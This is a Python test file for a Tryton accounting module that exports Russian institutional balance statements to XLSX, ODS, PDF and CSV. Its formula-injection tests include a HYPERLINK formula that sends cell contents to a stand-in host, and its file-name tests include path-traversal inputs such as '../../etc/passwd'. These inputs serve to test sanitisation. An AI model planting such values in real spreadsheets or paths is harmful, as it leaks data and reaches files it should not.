# This file is part of kazan_accounting.  Licensed under the GNU GPL v3+.
"""The writers of the statements, read back with other tools: openpyxl
for XLSX, odfpy for ODS, pypdf for PDF.  No database."""
import datetime as dt
import io
import os
import re
import tempfile
import unittest
import zipfile
from decimal import Decimal
from unittest import mock

import openpyxl
import pypdf
from lxml import etree
from odf import number as odf_number
from odf import style as odf_style
from odf import table as odf_table
from odf import teletype
from odf.namespaces import MANIFESTNS
from odf.opendocument import load as load_ods

from trytond.modules.kazan_accounting import export
from trytond.modules.kazan_accounting.export import Column, Document, Table

BIG = Decimal('123456789012.34')


def balance_document(extra_rows=0):
    "A small balance: Cyrillic, two tables, levels, totals, signs, big sums"
    balance = [
        Column('line_code', 'Код строки', 'code'),
        Column('name', 'Наименование показателя'),
        Column('year_start', 'На начало года', 'amount'),
        Column('period_end', 'На конец отчетного периода', 'amount'),
        ]
    rows = [
        {'line_code': '010', 'name': 'Нефинансовые активы',
            'year_start': Decimal('1500.00'), 'period_end': BIG},
        {'line_code': '011', 'name': 'Основные средства', 'level': 1,
            'year_start': Decimal('-1234.5'), 'period_end': 0},
        {'line_code': '012', 'name': '= амортизация', 'level': 2,
            'year_start': None, 'period_end': Decimal('0.005')},
        {'line_code': '190', 'name': 'БАЛАНС', 'bold': True,
            'year_start': Decimal('265.50'), 'period_end': BIG},
        ]
    plan = [
        Column('kosgu', 'КОСГУ', 'code'),
        Column('kvr', 'КВР', 'code'),
        Column('name', 'Наименование показателя', width=30),
        Column('planned', 'Утверждено плановых назначений', 'amount'),
        Column('executed', 'Исполнено', 'amount'),
        ]
    plan_rows = [
        {'kosgu': '211', 'kvr': '111', 'name': 'Заработная плата',
            'planned': Decimal('1000000.00'),
            'executed': Decimal('-250.75')},
        ] + [
        {'kosgu': '226', 'kvr': '244', 'name': f'Прочие работы, услуги № {i}',
            'planned': Decimal(i), 'executed': Decimal(i) / 4}
        for i in range(extra_rows)]
    return Document(
        title='Баланс государственного (муниципального) учреждения',
        form='0503730',
        header=[
            ('Учреждение', 'МБОУ «Школа № 7» & <Казань>'),
            ('ИНН', '1655191213'),
            ('Дата', dt.date(2026, 12, 31)),
            ('Единица измерения', 'руб.'),
            ],
        tables=[
            Table('Раздел 1. Нефинансовые активы', balance, rows,
                footer=[('Руководитель', 'Иванова А. П.')]),
            Table('КФО 4. Расходы', plan, plan_rows),
            ])


def read_ods(data):
    """{sheet name: [[(value-type, value or text)]]} of an ODS file, read
    by odfpy (a reader independent of our writer)"""
    document = load_ods(io.BytesIO(data))
    sheets = {}
    for table in document.spreadsheet.getElementsByType(odf_table.Table):
        rows = []
        for row in table.getElementsByType(odf_table.TableRow):
            cells = []
            for cell in row.childNodes:
                repeat = int(
                    cell.getAttribute('numbercolumnsrepeated') or 1)
                kind = cell.getAttribute('valuetype')
                if kind == 'float':
                    value = cell.getAttribute('value')
                else:
                    value = teletype.extractText(cell)
                cells.extend([(kind, value)] * repeat)
            rows.append(cells)
        sheets[table.getAttribute('name')] = rows
    return sheets


class DocumentTestCase(unittest.TestCase):
    "The document and its values"

    def test_unknown_kind(self):
        with self.assertRaises(ValueError):
            Column('x', 'X', 'number')

    def test_unknown_format(self):
        with self.assertRaises(ValueError):
            export.render(balance_document(), 'docx')

    def test_amount_text(self):
        self.assertEqual(export._amount_text(BIG), '123 456 789 012,34')
        self.assertEqual(export._amount_text(Decimal('-1234.5')),
            '-1 234,50')
        self.assertEqual(export._amount_text(Decimal('-0.001')), '0,00')
        self.assertEqual(export._amount_text(0.1 + 0.2), '0,30')

    def test_sheet_names(self):
        tables = [Table(title, [], []) for title in [
                    'Раздел 1: активы / пассивы [итого]',
                    'Очень длинное название раздела отчета о финансовых',
                    'Очень длинное название раздела отчета о финансовых',
                    '']]
        names = export._sheet_names(tables)
        self.assertEqual(names, [
                'Раздел 1  активы   пассивы  ито',
                'Очень длинное название раздела',
                'Очень длинное название разд (2)',
                '4'])
        self.assertEqual(export._sheet_names(tables[3:] * 2, '0503730'),
            ['0503730', '0503730 (2)'])
        self.assertTrue(all(len(n) <= 31 for n in names))


class XlsxTestCase(unittest.TestCase):
    "XLSX read back with openpyxl"

    @classmethod
    def setUpClass(cls):
        data = export.to_xlsx(balance_document())
        cls.workbook = openpyxl.load_workbook(io.BytesIO(data))

    def header_row(self, sheet):
        for row in sheet.iter_rows(min_col=1, max_col=1):
            if row[0].value in {'Код строки', 'КОСГУ'}:
                return row[0].row

    def test_sheets(self):
        self.assertEqual(self.workbook.sheetnames,
            ['Раздел 1. Нефинансовые активы', 'КФО 4. Расходы'])

    def test_preamble(self):
        sheet = self.workbook['Раздел 1. Нефинансовые активы']
        self.assertEqual(sheet['A1'].value,
            'Баланс государственного (муниципального) учреждения')
        self.assertTrue(sheet['A1'].font.b)
        self.assertEqual(sheet['C2'].value, 'Форма по ОКУД')
        self.assertEqual(sheet['D2'].value, '0503730')
        values = [sheet.cell(r, 1).value for r in range(3, 7)]
        self.assertEqual(values, [
                'Учреждение: МБОУ «Школа № 7» & <Казань>',
                'ИНН: 1655191213', 'Дата: 31.12.2026',
                'Единица измерения: руб.'])

    def test_values(self):
        sheet = self.workbook['Раздел 1. Нефинансовые активы']
        head = self.header_row(sheet)
        self.assertEqual([c.value for c in sheet[head]], [
                'Код строки', 'Наименование показателя', 'На начало года',
                'На конец отчетного периода'])
        self.assertTrue(all(c.font.b for c in sheet[head]))
        self.assertTrue(all(c.border.left.style == 'thin'
                for c in sheet[head]))
        rows = [[c.value for c in row]
            for row in sheet.iter_rows(min_row=head + 1, max_row=head + 4)]
        self.assertEqual(rows, [
                ['010', 'Нефинансовые активы', 1500, 123456789012.34],
                ['011', 'Основные средства', -1234.5, 0],
                ['012', "'= амортизация", None, 0.01],
                ['190', 'БАЛАНС', 265.5, 123456789012.34],
                ])
        self.assertEqual(sheet.cell(head + 3, 2).data_type, 's')

    def test_styles(self):
        sheet = self.workbook['Раздел 1. Нефинансовые активы']
        head = self.header_row(sheet)
        for r in range(head + 1, head + 5):
            self.assertEqual(sheet.cell(r, 3).number_format, '#,##0.00')
            self.assertEqual(sheet.cell(r, 1).number_format, '@')
            self.assertEqual(sheet.cell(r, 1).border.bottom.style, 'thin')
        indents = [sheet.cell(r, 2).alignment.indent
            for r in range(head + 1, head + 5)]
        self.assertEqual(indents, [0, 1, 2, 0])
        bold = [sheet.cell(r, 4).font.b for r in range(head + 1, head + 5)]
        self.assertEqual(bold, [False, False, False, True])

    def test_layout(self):
        sheet = self.workbook['КФО 4. Расходы']
        head = self.header_row(sheet)
        self.assertEqual(sheet.freeze_panes, f'A{head + 1}')
        self.assertEqual(sheet.print_title_rows, f'${head}:${head}')
        self.assertEqual(sheet.column_dimensions['C'].width, 30)
        self.assertEqual(sheet.column_dimensions['D'].width, 17)
        self.assertEqual(sheet.page_setup.fitToWidth, 1)
        self.assertTrue(sheet.sheet_properties.pageSetUpPr.fitToPage)
        self.assertEqual(int(sheet.page_setup.paperSize), 9)  # A4
        self.assertEqual(sheet.page_setup.orientation, 'portrait')
        self.assertEqual(sheet.cell(head + 1, 5).value, -250.75)

    def test_footer(self):
        sheet = self.workbook['Раздел 1. Нефинансовые активы']
        self.assertEqual(sheet.cell(sheet.max_row, 1).value,
            'Руководитель: Иванова А. П.')


class OdsTestCase(unittest.TestCase):
    "ODS read back with odfpy (the package with zipfile)"

    @classmethod
    def setUpClass(cls):
        cls.data = export.to_ods(balance_document())

    def test_package(self):
        self.assertEqual(load_ods(io.BytesIO(self.data)).mimetype,
            'application/vnd.oasis.opendocument.spreadsheet')
        with zipfile.ZipFile(io.BytesIO(self.data)) as archive:
            first = archive.infolist()[0]
            self.assertEqual(first.filename, 'mimetype')
            self.assertEqual(first.compress_type, zipfile.ZIP_STORED)
            self.assertEqual(archive.read('mimetype'),
                b'application/vnd.oasis.opendocument.spreadsheet')
            manifest = etree.fromstring(archive.read('META-INF/manifest.xml'))
            paths = [e.get(f'{{{MANIFESTNS}}}full-path')
                for e in manifest]
            for name in ['content.xml', 'styles.xml', 'meta.xml',
                    'settings.xml']:
                self.assertIn(name, paths)
                etree.fromstring(archive.read(name))
        # The mimetype is readable at a fixed offset, as ODF asks
        self.assertEqual(self.data[30:38], b'mimetype')

    def test_same_document_same_bytes(self):
        self.assertEqual(export.to_ods(balance_document()), self.data)

    def test_values(self):
        sheets = read_ods(self.data)
        self.assertEqual(list(sheets),
            ['Раздел 1. Нефинансовые активы', 'КФО 4. Расходы'])
        rows = sheets['Раздел 1. Нефинансовые активы']
        self.assertEqual(rows[0][0], ('string',
                'Баланс государственного (муниципального) учреждения'))
        self.assertEqual(rows[1][-2:], [('string', 'Форма по ОКУД'),
                ('string', '0503730')])
        head = [r[0][1] for r in rows].index('Код строки')
        self.assertEqual(rows[head + 1], [
                ('string', '010'), ('string', 'Нефинансовые активы'),
                ('float', '1500.00'), ('float', '123456789012.34')])
        self.assertEqual(rows[head + 2][2:], [
                ('float', '-1234.50'), ('float', '0.00')])
        self.assertEqual(rows[head + 3][1:], [
                ('string', "'= амортизация"), (None, ''), ('float', '0.01')])
        self.assertEqual(rows[-1][0],
            ('string', 'Руководитель: Иванова А. П.'))

    def test_styles(self):
        document = load_ods(io.BytesIO(self.data))
        automatic = document.automaticstyles
        number = automatic.getElementsByType(odf_number.Number)[0]
        self.assertEqual(number.getAttribute('decimalplaces'), '2')
        styles = {s.getAttribute('name'): s
            for s in automatic.getElementsByType(odf_style.Style)}

        def style_of(text):
            for cell in document.spreadsheet.getElementsByType(
                    odf_table.TableCell):
                if teletype.extractText(cell) == text:
                    return styles[cell.getAttribute('stylename')]

        def properties(style, kind, name):
            for element in style.getElementsByType(kind):
                return element.getAttribute(name)

        amount = style_of('123 456 789 012,34')
        self.assertEqual(amount.getAttribute('datastylename'), 'N2')
        paragraph = odf_style.ParagraphProperties
        self.assertIsNone(properties(
                style_of('Нефинансовые активы'), paragraph, 'marginleft'))
        self.assertEqual(properties(style_of("'= амортизация"), paragraph,
                'marginleft'), '0.60cm')
        self.assertEqual(properties(style_of('БАЛАНС'),
                odf_style.TextProperties, 'fontweight'), 'bold')
        # The column headers repeat on each printed page
        head = document.spreadsheet.getElementsByType(
            odf_table.TableHeaderRows)[0]
        self.assertEqual(teletype.extractText(head), 'Код строки'
            'Наименование показателяНа начало годаНа конец отчетного периода')


class PdfTestCase(unittest.TestCase):
    "PDF read back with pypdf"

    @classmethod
    def setUpClass(cls):
        cls.data = export.to_pdf(balance_document(extra_rows=150))
        cls.reader = pypdf.PdfReader(io.BytesIO(cls.data))

    def test_file(self):
        self.assertTrue(self.data.startswith(b'%PDF-'))
        self.assertEqual(self.reader.metadata.title,
            'Баланс государственного (муниципального) учреждения')

    def test_pages(self):
        pages = len(self.reader.pages)
        self.assertGreaterEqual(pages, 3)
        for number, page in enumerate(self.reader.pages, 1):
            text = page.extract_text()
            self.assertIn(f'Стр. {number} из {pages}', text)
            # The column headers are repeated on every page of the table
            if number > 1:
                self.assertIn('КОСГУ', text)
            box = page.mediabox
            self.assertLess(box.width, box.height)  # A4 portrait

    def test_text(self):
        text = self.reader.pages[0].extract_text()
        for expected in [
                'Баланс государственного (муниципального) учреждения',
                'Форма по ОКУД', '0503730',
                'Учреждение: МБОУ «Школа № 7» & <Казань>',
                'Дата: 31.12.2026',
                'Раздел 1. Нефинансовые активы',
                'Нефинансовые активы', 'БАЛАНС',
                '123 456 789 012,34', '-1 234,50', '1 500,00',
                'Руководитель: Иванова А. П.',
                'КФО 4. Расходы', '1 000 000,00', '-250,75',
                ]:
            self.assertIn(expected, text)
        last = self.reader.pages[-1].extract_text()
        self.assertIn('Прочие работы, услуги № 149', last)

    def test_landscape(self):
        columns = [Column('name', 'Наименование')] + [
            Column(f'kfo{k}', f'КФО {k}', 'amount') for k in range(2, 8)]
        doc = Document('Широкая форма', '0503737', [],
            [Table('', columns, [{'name': 'Доходы', 'kfo2': BIG}])])
        page = pypdf.PdfReader(io.BytesIO(export.to_pdf(doc))).pages[0]
        self.assertGreater(page.mediabox.width, page.mediabox.height)
        self.assertIn('123 456 789 012,34', page.extract_text())


class FontTestCase(unittest.TestCase):
    "The font of the PDF writer"

    def test_found(self):
        regular, bold = export._font_paths()
        self.assertTrue(os.path.isfile(regular))
        self.assertTrue(os.path.isfile(bold))

    def test_environ(self):
        regular, _ = export._font_paths()
        with mock.patch.dict(os.environ, {export.FONT_ENVIRON: regular}):
            self.assertEqual(export._font_paths()[0], regular)
            self.assertTrue(export.to_pdf(balance_document()))

    def test_environ_missing(self):
        with mock.patch.dict(os.environ,
                {export.FONT_ENVIRON: '/nowhere/font.ttf'}):
            with self.assertRaises(export.FontNotFound) as context:
                export.to_pdf(balance_document())
        self.assertIn('KAZAN_PDF_FONT=/nowhere/font.ttf',
            str(context.exception))

    def test_none(self):
        with mock.patch.dict(os.environ, clear=False) as environ, \
                mock.patch.object(export.pdf, 'FONT_CANDIDATES',
                    [('/nowhere/a.ttf', '/nowhere/a-Bold.ttf')]):
            environ.pop(export.FONT_ENVIRON, None)
            with self.assertRaises(export.FontNotFound) as context:
                export.pdf_fonts()
        message = str(context.exception)
        self.assertIn('fonts-dejavu-core', message)
        self.assertIn('KAZAN_PDF_FONT', message)
        self.assertIn('/nowhere/a.ttf', message)


class CsvTestCase(unittest.TestCase):
    "CSV as text"

    def test_table(self):
        table = balance_document().tables[0]
        self.assertEqual(export.to_csv(table),
            'line_code;name;year_start;period_end\n'
            '010;Нефинансовые активы;1500.00;123456789012.34\n'
            '011;Основные средства;-1234.50;0.00\n'
            "012;'= амортизация;;0.01\n"
            '190;БАЛАНС;265.50;123456789012.34\n')

    def test_columns(self):
        table = Table('', [Column('name', 'Имя'),
                Column('amount', 'Сумма', 'amount')], [
                {'name': 'a;b "c"', 'amount': 1.005, 'kfo': '4',
                    'extra': Decimal('7.1')}])
        self.assertEqual(export.to_csv(table, ['kfo', 'name', 'amount',
                    'extra']),
            'kfo;name;amount;extra\n'
            '4;"a;b ""c""";1.01;7.10\n')

    def test_document(self):
        columns = [Column('kfo', 'КФО', 'code'),
            Column('amount', 'Сумма', 'amount')]
        doc = Document('Исполнение', '0503737', [], [
                Table('КФО 2', columns, [{'kfo': '2', 'amount': 1}]),
                Table('КФО 4', columns, [{'kfo': '4', 'amount': -2}])])
        self.assertEqual(export.render(doc, 'csv'),
            'kfo;amount\n2;1.00\n4;-2.00\n'.encode('utf-8'))
        with self.assertRaises(ValueError):
            export.render(balance_document(), 'csv')


class FormulaTestCase(unittest.TestCase):
    """A text a spreadsheet would read as a formula (a journal, a plan line
    or a person named '=HYPERLINK(...)') is written with a leading
    apostrophe in CSV, XLSX and ODS; amounts stay numbers, negative ones
    included, and ordinary texts stay as they are"""

    NAMES = ['=HYPERLINK("http://x.example/?"&A1;"Ок")', '+7 999',
        '-1+2', '@SUM(A1:A9)', '\tтаб', '\rвозврат', 'Обычное имя',
        '401.20.211', 'а=б']
    SAFE = ["'=HYPERLINK(\"http://x.example/?\"&A1;\"Ок\")", "'+7 999",
        "'-1+2", "'@SUM(A1:A9)", "'\tтаб", "'\rвозврат", 'Обычное имя',
        '401.20.211', 'а=б']

    def document(self):
        columns = [Column('code', 'Код', 'code'), Column('name', 'Имя'),
            Column('amount', 'Сумма', 'amount')]
        rows = [{'code': name, 'name': name, 'amount': Decimal('-12.50')}
            for name in self.NAMES]
        return Document('Формулы', '', [('Учреждение', '=1+1')],
            [Table('Формулы', columns, rows, footer=['-подпись'])])

    def test_text_cell(self):
        self.assertEqual([export.text_cell(n) for n in self.NAMES],
            self.SAFE)
        for value in [Decimal('-1'), -1, -1.5, None, dt.date(2026, 3, 1)]:
            self.assertIs(export.text_cell(value), value)

    def test_csv(self):
        import csv
        text = export.to_csv(self.document().tables[0])
        # the csv module quotes a field with '\n', not one with '\r'
        rows = list(csv.reader(io.StringIO(text.replace('\r', '<CR>'),
                    newline=''), delimiter=';'))
        self.assertEqual(rows[0], ['code', 'name', 'amount'])
        self.assertEqual(rows[1:],
            [[safe.replace('\r', '<CR>')] * 2 + ['-12.50']
                for safe in self.SAFE])

    def test_xlsx(self):
        workbook = openpyxl.load_workbook(
            io.BytesIO(export.to_xlsx(self.document())))
        sheet = workbook.active
        cells = list(sheet.iter_rows(min_row=sheet.max_row
                - len(self.NAMES) - 1, max_row=sheet.max_row - 2))
        self.assertEqual([[c.value for c in row] for row in cells],
            [[safe, safe, -12.5] for safe in self.SAFE])
        self.assertTrue(all(row[0].data_type == 's'
                and row[1].data_type == 's' and row[2].data_type == 'n'
                for row in cells))
        self.assertEqual(sheet['A2'].value, 'Учреждение: =1+1')
        self.assertEqual(sheet.cell(sheet.max_row, 1).value, "'-подпись")

    def test_ods(self):
        rows, = read_ods(export.to_ods(self.document())).values()
        data = rows[-len(self.NAMES) - 2:-2]
        self.assertEqual(data, [[('string', safe), ('string', safe),
                    ('float', '-12.50')] for safe in self.SAFE])
        self.assertEqual(rows[-1][0], ('string', "'-подпись"))

    def test_statement_csv(self):
        "The long layouts of interfaces.md §4 (statement_report._csv)"
        from trytond.modules.kazan_accounting import statement_report
        self.assertEqual(statement_report._csv(['line_code', 'line_name',
                    'kfo', 'amount'], [
                    ['010', '=1+1', '4', Decimal('-5')],
                    ['020', 'Основные средства', '4', Decimal('5')]]),
            "line_code;line_name;kfo;amount\n"
            "010;'=1+1;4;-5.00\n"
            "020;Основные средства;4;5.00\n")


class FileNameTestCase(unittest.TestCase):
    "File names made of the names of institutions and people"

    def test_ordinary_names_kept(self):
        for name in ['trial_balance.csv', '1655191213', 'founder-education',
                'advance_049205805.csv',
                'Payslip-Иванова Анна Петровна март 2026',
                'Payroll Register (0504402)-МБОУ Школа № 7 март 2026']:
            self.assertEqual(export.safe_file_name(name), name)

    def test_unsafe_names(self):
        for name, safe in [
                ('МБОУ "СОШ №7/2" март 2026', 'МБОУ СОШ №7_2 март 2026'),
                ("«Театр» 'Ёлка' „Б“", 'Театр Ёлка Б'),
                ('../../etc/passwd', '_.._etc_passwd'),
                ('..', 'report'), ('', 'report'), (None, 'report'),
                ('a\\b:c*d?e<f>g|h', 'a_b_c_d_e_f_g_h'),
                ('строка\nдругая\tтаб\x00\x1b', 'строка другая таб'),
                (' .скрытый. ', 'скрытый'),
                ]:
            with self.subTest(name=name):
                self.assertEqual(export.safe_file_name(name), safe)

    def test_bounded(self):
        name = export.safe_file_name('Ж' * 500)
        self.assertEqual(name, 'Ж' * 100)
        self.assertLessEqual(len(name.encode('utf-8')), 200)
        self.assertEqual(export.safe_file_name('a' * 500), 'a' * 100)
        self.assertLessEqual(
            len(export.safe_file_name('😀' * 100).encode('utf-8')), 200)


class LongTableTestCase(unittest.TestCase):
    "A table of 1,000 rows: laid out page by page, values kept"

    @classmethod
    def setUpClass(cls):
        cls.doc = balance_document(extra_rows=1000)

    def test_pdf(self):
        reader = pypdf.PdfReader(io.BytesIO(export.to_pdf(self.doc)))
        pages = len(reader.pages)
        # About 55 lines of this table on an A4 page
        self.assertGreaterEqual(pages, 15)
        self.assertLessEqual(pages, 25)
        names, seen = set(), []
        for number, page in enumerate(reader.pages, 1):
            text = page.extract_text()
            self.assertIn(f'Стр. {number} из {pages}', text)
            # The column headers on every page of the long table, once
            self.assertEqual(text.count('КОСГУ'), 1, number)
            self.assertIn('назначений', text)
            names.update(re.findall(r'Прочие работы, услуги № (\d+)\b',
                    text))
            seen.append(text)
        # Every row once, none lost at the pages' ends
        self.assertEqual(names, {str(i) for i in range(1000)})
        self.assertIn('Заработная плата', seen[0])
        self.assertIn('Прочие работы, услуги № 999', seen[-1])

    def test_xlsx(self):
        workbook = openpyxl.load_workbook(
            io.BytesIO(export.to_xlsx(self.doc)))
        sheet = workbook['КФО 4. Расходы']
        head = next(row[0].row for row in sheet.iter_rows(max_col=1)
            if row[0].value == 'КОСГУ')
        self.assertEqual(sheet.max_row, head + 1001)
        for i in (0, 1, 500, 999):
            r = head + 2 + i
            self.assertEqual(sheet.cell(r, 3).value,
                f'Прочие работы, услуги № {i}')
            self.assertEqual(sheet.cell(r, 4).value, i)
            self.assertEqual(sheet.cell(r, 5).value,
                float(Decimal(i / 4).quantize(Decimal('0.01'),
                        rounding='ROUND_HALF_UP')))
            for c in (4, 5):
                self.assertEqual(sheet.cell(r, c).number_format, '#,##0.00')
            self.assertEqual(sheet.cell(r, 1).number_format, '@')
            self.assertEqual(sheet.cell(r, 1).value, '226')
            self.assertEqual(sheet.cell(r, 5).border.bottom.style, 'thin')
        self.assertEqual(sheet.freeze_panes, f'A{head + 1}')
        self.assertEqual(sheet.print_title_rows, f'${head}:${head}')


class WriteTestCase(unittest.TestCase):
    "Every format through write()"

    def test_write(self):
        doc = balance_document()
        doc.tables = doc.tables[:1]
        magic = {'xlsx': b'PK', 'ods': b'PK', 'pdf': b'%PDF', 'csv': b'line'}
        with tempfile.TemporaryDirectory() as directory:
            for fmt in export.FORMATS:
                path = os.path.join(directory, f'balance.{fmt}')
                self.assertEqual(export.write(doc, fmt, path), path)
                with open(path, 'rb') as file:
                    self.assertTrue(file.read().startswith(magic[fmt]))
